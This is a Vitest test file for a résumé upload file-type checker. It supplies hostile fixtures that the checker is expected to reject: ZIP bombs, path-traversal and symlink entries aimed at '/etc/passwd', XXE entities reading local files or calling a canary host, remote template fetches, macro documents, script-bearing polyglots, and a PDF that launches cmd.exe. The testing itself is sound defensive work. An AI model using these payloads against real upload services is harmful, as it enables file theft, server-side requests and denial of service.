import { describe, expect, it } from 'vitest';
import { aPdf, makeZip, wordEntries, type ZipEntry } from '../../testing/test-files.ts';
import { findResumeType } from './file-type.ts';

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const megabyte = 1024 * 1024;
const findType = (content: Uint8Array) => findResumeType(Buffer.from(content));
const withEntries = (...entries: ZipEntry[]) => makeZip([...wordEntries, ...entries]);
const relationship = (kind: string, target: string) =>
  `<Relationships><Relationship Id="r1" TargetMode="External" Target="${target}"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"/></Relationships>`;
const withRelationship = (kind: string, target: string) =>
  withEntries({ name: 'word/_rels/settings.xml.rels', content: relationship(kind, target) });
const document = (content: string | Buffer) =>
  makeZip([wordEntries[0] as ZipEntry, { name: 'word/document.xml', content, isDeflated: true }]);

describe('a Word document', () => {
  it.each([
    ['as small as can be', makeZip(wordEntries)],
    [
      'with pictures, folders and compressed parts',
      withEntries(
        { name: 'word/', content: '' },
        { name: 'word/media/image1.png', content: 'picture'.repeat(9000), isDeflated: true },
      ),
    ],
    [
      'with an embedded table',
      withEntries({ name: 'word/embeddings/Sheet1.xlsx', content: 'PK\u0003\u0004' }),
    ],
    ['with links to the web', withRelationship('hyperlink', 'https://www.linkedin.com/in/somebody')],
    ["from a template on its writer's disk", withRelationship('attachedTemplate', 'file:///C:\\Normal.dotm')],
    ['that mentions a DOCTYPE in its text', document('<w:t>&lt;!DOCTYPE html&gt;</w:t>')],
  ])('%s is one', async (_, file) => {
    expect(await findType(file)).toBe(docx);
  });
});

describe('a bomb', () => {
  const bomb = Buffer.alloc(300 * megabyte);
  it.each([
    [
      'that says how large it is',
      withEntries({ name: 'word/a.xml', content: '', claimedBytes: 4_000_000_000 }),
    ],
    [
      'that is large in sum',
      makeZip([
        ...wordEntries,
        ...Array.from({ length: 11 }, (_, n) => ({
          name: `word/media/${n}`,
          content: bomb.subarray(0, 10 * megabyte),
          isDeflated: true,
        })),
      ]),
    ],
    [
      'that claims to be small',
      withEntries({ name: 'word/a.xml', content: bomb, isDeflated: true, claimedBytes: 900 }),
    ],
    [
      'that claims to be smaller in the document itself',
      makeZip([
        wordEntries[0] as ZipEntry,
        { name: 'word/document.xml', content: bomb, isDeflated: true, claimedBytes: megabyte },
      ]),
    ],
    [
      'of 100,000 entries',
      makeZip([...wordEntries, ...Array.from({ length: 100_000 }, (_, n) => ({ name: `word/${n}` }))]),
    ],
    [
      'of 100,000 entries that claims to have two',
      makeZip([...wordEntries, ...Array.from({ length: 100_000 }, (_, n) => ({ name: `word/${n}` }))], {
        claimedCount: 2,
      }),
    ],
    [
      'of 60,000 entries',
      makeZip([...wordEntries, ...Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}` }))]),
    ],
    ['of entries that share their bytes', makeZip(wordEntries, { isOverlapping: true })],
    [
      'in a ZIP inside the ZIP',
      withEntries({
        name: 'word/media/a.bin',
        content: Buffer.from(makeZip([{ name: 'b', content: bomb, isDeflated: true }])),
      }),
    ],
  ])('%s is refused without being unpacked', async (_, file) => {
    const residentBefore = process.memoryUsage.rss();
    const before = process.cpuUsage();
    expect(await findType(file)).toBeUndefined();
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2000);
    expect(process.memoryUsage.rss() - residentBefore).toBeLessThan(100 * megabyte);
  });
});

describe('a document that is none', () => {
  it.each([
    ['has entries that lead out of its folder', withEntries({ name: '../../app/x' })],
    ['has entries with absolute paths', withEntries({ name: '/etc/cron.d/x' })],
    ['has entries with paths of Windows', withEntries({ name: 'word\\..\\..\\x' })],
    ['has entries on another drive', withEntries({ name: 'C:/x' })],
    ['has entries with a NUL byte', withEntries({ name: 'word/a.xml\u0000.png' })],
    ['has links', withEntries({ name: 'word/media/a.png', content: '/etc/passwd', mode: 0o120777 })],
    ['has an entry twice', withEntries({ name: 'word/document.xml', content: '<other/>' })],
    ['has an entry twice, in other letters', withEntries({ name: 'WORD/DOCUMENT.XML', content: '<other/>' })],
    ['has entries that call themselves something else', withEntries({ name: 'a.xml', ownName: '../a.xml' })],
    ['is encrypted', withEntries({ name: 'word/a.xml', flags: 1 })],
    [
      'is broken inside',
      withEntries({ name: 'word/a.xml', content: 'no deflate', flags: 0, claimedBytes: 4 }),
    ],
    ['is cut off', makeZip(wordEntries).slice(0, -30)],
    ['is a plain ZIP', makeZip([{ name: 'a.txt', content: 'hi' }])],
    ['is a spreadsheet', makeZip([wordEntries[0] as ZipEntry, { name: 'xl/workbook.xml' }])],
    ['has macros', withEntries({ name: 'word/vbaProject.bin' })],
    [
      'has macros under another name',
      makeZip([
        {
          name: '[Content_Types].xml',
          content: '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
        },
        ...wordEntries.slice(1),
      ]),
    ],
    [
      'is a .docm by another name',
      makeZip([
        { name: '[Content_Types].xml', content: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
        ...wordEntries.slice(1),
      ]),
    ],
    ['fetches its template', withRelationship('attachedTemplate', 'http://canary.example/evil.dotm')],
    ['fetches its template from a share', withRelationship('attachedTemplate', '\\\\canary\\evil.dotm')],
    [
      'fetches its template by a hidden name',
      withRelationship('attachedTemplate', '&#x68;ttps://canary.example/'),
    ],
    ['fetches an object', withRelationship('oleObject', 'https://canary.example/evil.doc')],
    [
      'reads a file by an entity',
      document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    ],
    ['calls home by an entity', document('<!DOCTYPE x SYSTEM "http://canary.example/x.dtd"><x/>')],
    ['laughs a billion times', document('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>')],
    ['does so in UTF-16', document(Buffer.from('\uFEFF<!DOCTYPE x [<!ENTITY a "b">]><x/>', 'utf16le'))],
    ['does so after a long comment', document(`<!--${'x'.repeat(100_003)}--><!DOCTYPE x><x/>`)],
    ['does so in its relationships', withEntries({ name: '_rels/.rels', content: '<!DOCTYPE x><x/>' })],
  ])('because it %s is refused', async (_, file) => {
    expect(await findType(file)).toBeUndefined();
  });

  it.each([
    ['a program', 'MZ\u0090\u0000'],
    ['a page', '<!doctype html><script>alert(1)</script>'],
    ['a picture that is a program', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['a page that becomes a PDF later', '<html>%PDF-1.7'],
    ['a page after a byte order mark', '\u00ef\u00bb\u00bf \n<script>alert(1)</script>%PDF-1.7'],
    ['a program that becomes a PDF later', 'MZ\u0090\u0000 %PDF-1.7'],
    ['a script that becomes a PDF later', '#!/bin/sh\n%PDF-1.7'],
    ['a picture that becomes a PDF later', 'GIF89a %PDF-1.7'],
    ['a ZIP that becomes a PDF later', 'PK\u0003\u0004 %PDF-1.7'],
    ['a text that becomes a PDF too late', `${' '.repeat(1025)}%PDF-1.7`],
    ['rich text', '{\\rtf1\\ansi'],
    ['zeros', '\u0000'.repeat(5000)],
    ['nothing', ''],
  ])('because it is %s is refused', async (_, content) => {
    expect(await findType(Buffer.from(content, 'latin1'))).toBeUndefined();
  });
});

describe('an older Word document', () => {
  const compound = (...streams: string[]) =>
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      ...streams.map((name) => Buffer.from(name, 'utf16le')),
    ]);

  it('is told from other compound files, and has no macros', async () => {
    expect(await findType(compound('WordDocument'))).toBe('application/msword');
    expect(await findType(compound('Workbook'))).toBeUndefined();
    expect(await findType(compound('WordDocument', '_VBA_PROJECT'))).toBeUndefined();
  });
});

describe('a PDF', () => {
  it.each([
    ['with JavaScript', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ['that launches a program', '%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'],
    ['that is encrypted', '%PDF-1.7\ntrailer<</Encrypt 5 0 R>>'],
    ['that says it has 100,000 pages', '%PDF-1.7\n1 0 obj<</Type/Pages/Count 100000/Kids[1 0 R]>>endobj'],
    [
      'whose objects hold one another',
      '%PDF-1.7\n1 0 obj<</Type/ObjStm/Extends 1 0 R>>stream\nendstream endobj',
    ],
    ['without a table of its objects', '%PDF-1.7\nxref\n0 99999999\ntrailer<</Prev 0>>startxref\n0\n%%EOF'],
    ['that is a page, too', '%PDF-1.7\n<html><script>alert(1)</script></html>'],
  ])('%s is taken for what it is, and nothing of it is read', async (_, content) => {
    expect(await findType(Buffer.from(content))).toBe('application/pdf');
  });

  it.each([
    ["a mail program's lines", 'Content-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n\r\n'],
    ["a printer's", '\u001b%-12345X@PJL SET STRINGCODESET=UTF8\r\n'],
    ['a byte order mark', '\u00ef\u00bb\u00bf'],
    ['the header of an old Mac', '\u0000'.repeat(128)],
    ['a kilobyte of blanks', ' '.repeat(1024)],
  ])('after %s is one', async (_, preamble) => {
    expect(await findType(Buffer.concat([Buffer.from(preamble, 'latin1'), aPdf]))).toBe('application/pdf');
  });

  it('that is a Word document, too, is a PDF', async () => {
    expect(await findType(Buffer.concat([aPdf, makeZip(wordEntries)]))).toBe('application/pdf');
  });
});
